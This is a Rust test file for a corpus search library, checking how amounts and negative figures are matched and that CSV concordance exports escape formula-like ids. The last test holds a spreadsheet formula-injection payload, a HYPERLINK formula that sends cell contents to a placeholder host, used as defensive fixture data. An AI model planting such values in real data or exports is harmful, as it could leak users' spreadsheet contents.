//! What must hold of corpora that are written for one test: of any amount, and of any id.

#[path = "../../compiler/tests/folder/mod.rs"]
mod folder;

use vitrine_corpus::Image;
use vitrine_corpus::model::ArchivedCorpus;
use vitrine_search::{LineSort, Request, concordance, concordance_csv, search};

use folder::Folder;

fn found(corpus: &ArchivedCorpus, query: &str) -> Vec<String> {
    let results = search(corpus, &Request { query: query.to_owned(), ..Request::default() });
    let mut ids: Vec<String> =
        results.hits.iter().map(|hit| corpus.passages[hit.passage].id.to_string()).collect();
    ids.sort_unstable();
    ids
}

/// Hundreds of millions with one decimal: a double has most of them only nearly.
#[test]
fn an_amount_is_found_however_it_is_written() {
    let row = |id: &str, n: u32, text: String| {
        format!("{{\"id\": \"{id}{n:02}\", \"doc\": \"{id}\", \"text\": \"{text}\"}}\n")
    };
    let rows: String = (11..=99)
        .map(|n| {
            let in_chinese = format!("據統計，當年的貿易額為{}.{}億美元左右。", n / 10, n % 10);
            let in_english = format!("Trade was worth ${n}0 million in that year, they said.");
            row("zh", n, in_chinese) + &row("en", n, in_english)
        })
        .collect();
    let folder = Folder::new("amounts", &[("rows.jsonl", &rows)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for n in 11..=99 {
        let both = [format!("en{n}"), format!("zh{n}")];
        let hundred_millions = format!("{}.{}", n / 10, n % 10);
        for query in [
            format!("figure:{n}0000000USD"),
            format!("figure:>={n}0000000USD figure:<={n}0millionUSD"),
            format!("figure:{hundred_millions}億USD"),
            format!("${n}0 million"),
            format!("{hundred_millions}亿美元"),
            format!("{n}0,000,000"),
        ] {
            assert_eq!(found(corpus, &query), both, "{query}");
        }
    }
}

#[test]
fn figures_below_zero_are_found_by_their_signs() {
    const ROWS: &str = r#"{"id": "cold", "text": "In that winter the temperature was -20°C for a week."}
{"id": "warm", "text": "In that summer the temperature was 20°C for a week."}
"#;
    let folder = Folder::new("below-zero", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [
        ("figure:-20", "cold"),
        ("figure:<-10", "cold"),
        ("figure:<=-20", "cold"),
        ("figure:-30..-10", "cold"),
        ("figure:20", "warm"),
        ("figure:>=20", "warm"),
        ("figure:>-10 figure:degrees", "warm"),
    ] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
}

/// An id is somebody else's word as much as a text is.
#[test]
fn no_id_is_run_as_a_formula() {
    const ROWS: &str = r#"{"id": "=HYPERLINK(\"https://a.invalid/?\"&A1)", "doc": "@SUM(A1)", "text": "Grain came by ship."}
{"id": "+1", "doc": "-1", "text": "Grain went by ship."}
"#;
    let folder = Folder::new("formulas", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let results = search(corpus, &Request { query: "grain".to_owned(), ..Request::default() });
    let lines = concordance(corpus, &results, LineSort::Corpus);
    assert_eq!(lines.len(), 2);
    let table = concordance_csv(corpus, &lines, 5, &|_| "=link".to_owned());
    for row in table.lines().skip(1) {
        for cell in row.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{row}");
        }
    }
    assert!(table.contains("\"'=HYPERLINK(\"\"https://a.invalid/?\"\"&A1)\""), "{table}");
}
